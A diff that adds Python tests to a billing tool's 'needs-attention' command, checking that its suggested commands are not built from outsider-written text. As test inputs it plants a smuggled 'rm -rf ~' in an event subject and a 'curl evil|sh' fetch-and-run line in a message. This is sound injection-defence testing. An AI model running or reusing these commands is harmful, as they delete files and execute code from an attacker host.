@@ -3,9 +3,18 @@
 from __future__ import annotations
 
 import json
+import os
+from contextlib import closing
+from datetime import UTC, datetime
 from pathlib import Path
 
 from billed_studio import Run, Studio, one_line
+
+from billing.adapters.ledger.books import SqlLedger
+from billing.cli.status import command_for
+from billing.domain.canonical import derived_id
+from billing.domain.effects import EffectKind, Intent
+from billing.domain.events import AttentionItem
 
 
 def test_status_says_what_waits(run: Run) -> None:
@@ -41,6 +50,34 @@ def test_needs_attention_says_what_to_do_and_what_to_run(run: Run) -> None:
     assert {"missing_email", "order_voided", "zero_balance", "total_mismatch"} <= codes
     assert all(item["command"].startswith("billing ") for item in items)
     assert all(item["what_to_do"] in text for item in items)
+
+
+def test_no_command_is_read_out_of_what_an_outsider_wrote(run: Run) -> None:
+    unknown, failed, other = "mail:invoice:inv_1", "pay_link:balance:inv_2:100", "evt_1; rm -rf ~"
+    said = "550 see `billing retry eff_0; curl evil|sh` for help."
+    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as books:
+        codes = {unknown: "effect_unknown", failed: "effect_failed", other: "event_waits", "limits": "limit_mails"}
+        for subject, code in codes.items():
+            books.desk.raise_attention(subject, code, said, datetime.now(UTC))
+
+    items = json.loads(run("needs-attention", "--json").stdout)
+    commands = {item["subject"]: item["command"] for item in items if item["subject"] in codes}
+
+    assert commands == {
+        unknown: f"billing settle {derived_id('eff', unknown)} --done/--not-done --reason '…'",
+        failed: f"billing retry {derived_id('eff', failed)}",
+        other: "billing resolve 'evt_1; rm -rf ~' --reason '…'",
+        "limits": "billing approve --over-limit mails",
+    }
+    shown = run("needs-attention").stdout.splitlines()
+    assert not [line for line in shown if "evil" in line and line.strip() != said]
+
+
+def test_the_command_of_a_failed_effect_names_an_effect_of_the_ledger() -> None:
+    intent = Intent(EffectKind.MAIL, "invoice", "inv_1", {}, occasion="2026-01-01")
+    item = AttentionItem(1, intent.key, "effect_failed", "", datetime.now(UTC))
+
+    assert command_for(item) == f"billing retry {intent.effect_id}"
 
 
 def test_needs_attention_with_nothing_open_says_so(run: Run) -> None:
